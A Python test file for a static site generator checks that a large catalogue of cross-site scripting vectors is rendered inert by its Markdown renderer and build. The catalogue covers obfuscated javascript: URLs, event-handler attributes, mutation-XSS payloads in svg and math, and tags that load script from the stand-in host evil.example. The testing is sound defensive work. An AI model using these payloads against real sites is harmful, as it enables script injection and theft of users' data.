"""Every known way of smuggling script or a request into an article body stays inert: through
render_markdown and through a real build, read back with an HTML5 parser (as a browser reads it)."""

from __future__ import annotations

import re
from pathlib import Path

import html5lib
import pytest
from conftest import TEST_FRONT, build

from nashra.body.markdown import render_markdown
from nashra.read.scan import find_links

ARTICLE = "content/articles/2024/06/vectors.md"
FRONT = TEST_FRONT

JS = [  # javascript: in every spelling a browser still runs
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
]
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<script/x src="//evil.example/x.js"></script>',
    '<img src="/images/route.svg" onerror="alert(1)">',
    "<img src=x:alert(1) onerror=alert(1)//",
    "<b onmouseover=alert(1)>x</b>",
    '<p ONCLICK="alert(1)">x</p>',
    "<div/onfocus=alert(1) tabindex=0>x</div>",
    "<a href=\"x\" onclick='alert(1)'>x</a>",
    "<body onload=alert(1)>",
    *[f'<a href="{url}">x</a>' for url in JS],
    *[f"<a href='{url}'>x</a>" for url in JS],
    *[f"[x]({url})" for url in JS if " " not in url and "<" not in url],
    *[f"![x]({url})" for url in JS if " " not in url and "<" not in url],
    *[f"[x][r]\n\n[r]: {url}" for url in JS if " " not in url and "<" not in url],
    "<javascript:alert(1)>",
    '<img src="javascript:alert(1)">',
    '<iframe src="//evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    '<object data="//evil.example/x.swf"></object>',
    '<object data="javascript:alert(1)"><param name=x value=y></object>',
    '<embed src="//evil.example/x.swf">',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="//evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    '<input type="image" src="//evil.example/x" formaction="javascript:alert(1)">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=//evil.example/">',
    '<base href="//evil.example/">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background:url(//evil.example/x.gif)">x</p>',
    '<p STYLE="behavior:url(x.htc)">x</p>',
    '<div style="&#98;ackground:url(javascript:alert(1))">x</div>',
    '<img src="//evil.example/x.gif">',
    '<img src="https://evil.example/x.gif" alt="x">',
    '<img src="/\\evil.example/x.gif">',
    '<img src="&#47;&#47;evil.example/x.gif">',
    '<img srcset="//evil.example/x.gif 1x">',
    '<picture><source srcset="//evil.example/x.gif"><img src="/images/route.svg"></picture>',
    '<video poster="//evil.example/x.gif" src="//evil.example/x.mp4"></video>',
    '<audio src="//evil.example/x.mp3"></audio>',
    '<table background="//evil.example/x.gif"><tr><td>x</td></tr></table>',
    '<a href="/articles/visit/" ping="//evil.example/">x</a>',
    "![x](https://evil.example/x.gif)",
    "![x](//evil.example/x.gif)",
    "[![x](//evil.example/x.gif)](/articles/visit/)",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<details open ontoggle=alert(1)>",
    '<a href="/articles/visit/" target="_blank">x</a>',
]
# Elements that run script, fetch, navigate, submit or restyle the page.
BAD_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "param", "base", "meta", "link",
    "form", "input", "button", "isindex", "style", "svg", "math", "noscript", "noembed", "template",
    "video", "audio", "source", "track", "picture", "xmp", "textarea", "title", "body",
}  # fmt: skip
URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href", "ping"}
SCRIPT_SCHEME = re.compile(r"^(?:javascript|vbscript|data):")
FETCHING = {"style", "srcdoc", "srcset", "formaction", "action", "target", "ping", "background", "poster", "data"}
HAS_SCHEME = re.compile(r"^[a-z][a-z0-9+.-]*:")


def dangers(fragment: str) -> list[str]:
    """What in HTML, parsed as a browser parses it, could run script or make a request elsewhere."""
    tree = html5lib.parseFragment(fragment, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue  # a comment: inert
        tag = el.tag.rpartition("}")[2].lower()
        if tag in BAD_TAGS or el.tag.startswith("{"):
            found.append(f"<{tag}>")
        for name, value in el.attrib.items():
            name = str(name).rpartition("}")[2].lower() if not isinstance(name, tuple) else name[1].lower()
            # html5lib has decoded every entity; a browser's URL parser drops the C0 controls and spaces
            # around a URL and every tab and line break in it.
            url = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(33))))).lower()
            if name.startswith("on") or name in FETCHING:
                found.append(f"{tag}[{name}]")
            elif name in URL_ATTRS and SCRIPT_SCHEME.match(url):
                found.append(f"{tag}[{name}={value!r}]")
            elif tag == "img" and name == "src" and (url.startswith(("//", "/\\", "\\")) or HAS_SCHEME.match(url)):
                found.append(f"img[src={value!r}] (another host)")
    return found


def test_the_checker_sees_every_vector_unsanitised():
    """The parser-based check is not vacuous: unsanitised, each vector is dangerous, but for Markdown
    (dangerous once converted), comments, and what an HTML5 parser drops from a fragment by itself."""
    markdown = ("[", "!", "<!--", "<javascript:", "<![CDATA[")
    assert [v for v in VECTORS if not dangers(v) and not v.startswith(markdown)] == [
        "<scr<script>ipt>alert(1)</script>",  # a mangled tag only a naive filter would join up
        "<img src=x:alert(1) onerror=alert(1)//",  # a tag cut off by the end of the text
        "<body onload=alert(1)>",
        '<frameset><frame src="javascript:alert(1)"></frameset>',
    ]


@pytest.mark.parametrize("vector", VECTORS)
def test_render_markdown_leaves_nothing_that_runs_or_fetches(vector: str):
    assert dangers(render_markdown(vector)) == []


@pytest.mark.parametrize("vector", VECTORS[:12])
def test_vectors_inside_markdown_structures_stay_inert(vector: str):
    for body in (f"> {vector}", f"- {vector}", f"| a |\n|---|\n| {vector} |", f"**{vector}**", f"# {vector}"):
        assert dangers(render_markdown(body)) == [], body


def test_a_built_page_holds_none_of_the_vectors(site: Path):
    """Through the whole build (sanitiser, URL rewriting, isolation of Latin runs, templates): the
    article body holds no dangerous element or attribute. Only vectors the link checks let through."""
    site_image = "/images/route.svg"  # raw HTML only (Markdown is rendered above), no image the link checks refuse
    # Raw control characters never reach the sanitiser in a build: reading the file refuses them (NSH009).
    raw_control = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
    allowed = [
        v
        for v in VECTORS
        if v[0] == "<" and not raw_control.search(v) and all(k.url == site_image for k in find_links(v) if k.image)
    ]
    assert len(allowed) > 60
    body = "\n\n".join(allowed)
    (site / ARTICLE).write_text(FRONT + body + "\n", encoding="utf-8")
    assert build(site) == 0
    page = (site / "output" / "articles" / "vectors" / "index.html").read_text(encoding="utf-8")
    article = page.split('<div class="body">', 1)[1].split('<footer class="article-footer"', 1)[0]
    assert dangers(article) == []


def test_character_references_xml_cannot_carry_become_replacement_characters(site: Path):
    """`&#1;` or `&#xFFFE;` in a body decode to characters no feed can carry: the build gives U+FFFD in
    their place (as HTML does for `&#0;`) and every feed still parses."""
    import feedparser

    body = "نص فيه &#1; و&#x1F; و&#xFFFE; و&#11; و&#0; و&#xD800; في وسطه، و&amp; تبقى كما هي.\n"
    (site / ARTICLE).write_text(FRONT + body, encoding="utf-8")
    assert build(site) == 0
    page = (site / "output" / "articles" / "vectors" / "index.html").read_text(encoding="utf-8")
    article = page.split('<div class="body">', 1)[1].split('<footer class="article-footer"', 1)[0]
    assert "\ufffd" in article and not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", article)
    feed = feedparser.parse((site / "output" / "feed.xml").read_bytes())
    assert feed.bozo == 0 and any("\ufffd" in e.content[0].value for e in feed.entries)
